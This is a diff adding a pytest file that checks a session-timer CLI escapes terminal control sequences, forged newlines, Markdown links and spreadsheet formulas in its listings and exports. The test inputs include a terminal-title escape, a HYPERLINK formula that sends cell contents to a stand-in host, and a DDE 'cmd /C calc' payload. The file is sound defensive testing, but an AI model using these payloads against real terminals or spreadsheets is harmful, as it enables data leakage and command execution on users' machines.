@@ -1,0 +1,105 @@
+"""Terminal escapes, newlines and formulas in user text: the CLI and the exports stay safe."""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import datetime
+from pathlib import Path
+
+import pytest
+from review_journals import TZ, Session, known_session, write
+
+from sessiontimer import cli
+from sessiontimer.core.journal_read import read_journal
+from sessiontimer.paths import AppPaths
+from sessiontimer.review import export
+from sessiontimer.review.edit import amend, rename_client
+
+TITLE = "\x1b]0;owned\x07"
+CLEAR = "\x1b[2J"
+RED = "\x1b[31m"
+
+
+def _hostile(app_paths: AppPaths) -> Path:
+    """Anna's session, the client renamed to carry ESC [2J and a newline, a note amended."""
+    path = known_session(app_paths.sessions_dir, "Anna")
+    note = next(e["id"] for e in read_journal(path).events if e.get("type") == "note")
+    when = datetime(2026, 10, 21, 9, 0).astimezone()
+    amend(path, note, {"text": f"{TITLE}{RED}pwned"}, when)
+    rename_client(app_paths.sessions_dir, app_paths.state_dir, "Anna", f"A{CLEAR}\nB", when)
+    return path
+
+
+def _controls(text: str) -> list[str]:
+    return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F]
+
+
+def test_logs_list_and_show_escape_controls_and_newlines(
+    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = _hostile(app_paths)
+    assert cli.main(["logs", "list"]) == 0
+    out = capsys.readouterr().out
+    assert _controls(out) == [] and len(out.splitlines()) == 1  # no forged row
+    assert "A\\x1b[2J\\nB" in out
+    assert cli.main(["logs", "show", path.stem]) == 0
+    out = capsys.readouterr().out
+    assert _controls(out) == []
+    assert "\\x1b]0;owned\\x07\\x1b[31mpwned" in out
+
+
+def test_json_stays_exact(app_paths: AppPaths, capsys: pytest.CaptureFixture[str]) -> None:
+    _hostile(app_paths)
+    assert cli.main(["logs", "list", "--json"]) == 0
+    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert rows[0]["client"] == f"A{CLEAR}\nB"
+
+
+def test_markdown_escapes_markdown_and_drops_controls(
+    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = _hostile(app_paths)
+    rename_client(
+        app_paths.sessions_dir, app_paths.state_dir, f"A{CLEAR}\nB", "[x](http://evil) *Ann*",
+        datetime(2026, 10, 22, 9, 0).astimezone(),
+    )  # fmt: skip
+    assert cli.main(["logs", "export", path.stem, "--format", "md"]) == 0
+    out = capsys.readouterr().out
+    assert _controls(out) == []
+    assert "\\[x\\]" in out and "\\*Ann\\*" in out and "[x](http" not in out
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://x"&A1,"Click me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2",
+             "\tx", "\rx"],
+)  # fmt: skip
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
+    app_paths: AppPaths, tmp_path: Path, text: str
+) -> None:
+    s = Session(datetime(2026, 10, 20, 9, 0, tzinfo=TZ), client=text)
+    s.add("note", 10, 0, region=None, key="n", text=text)
+    path = write(app_paths.sessions_dir, s.wall, s.events, "aaaaaa")
+    target = tmp_path / "out.csv"
+    assert cli.main(["logs", "export", path.stem, "--format", "events", "-o", str(target)]) == 0
+    with target.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [(r["client"], r["text"]) for r in rows] == [("'" + text, ""), ("'" + text, "'" + text)]
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+
+
+def test_the_exports_registry_is_replaced_atomically(
+    app_paths: AppPaths, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    export.record_export(app_paths.state_dir, tmp_path / "a.md", ["Anna"])
+    before = (app_paths.state_dir / export.REGISTRY).read_bytes()
+
+    def killed(*args: object, **kwargs: object) -> None:
+        raise KeyboardInterrupt  # as a kill between the write and the rename
+
+    monkeypatch.setattr("os.replace", killed)
+    with pytest.raises(KeyboardInterrupt):
+        export.record_export(app_paths.state_dir, tmp_path / "b.md", ["Ben"])
+    assert (app_paths.state_dir / export.REGISTRY).read_bytes() == before
+    assert [e["clients"] for e in export.load_registry(app_paths.state_dir)] == [["Anna"]]
+    assert list(app_paths.state_dir.glob("*.tmp")) == []
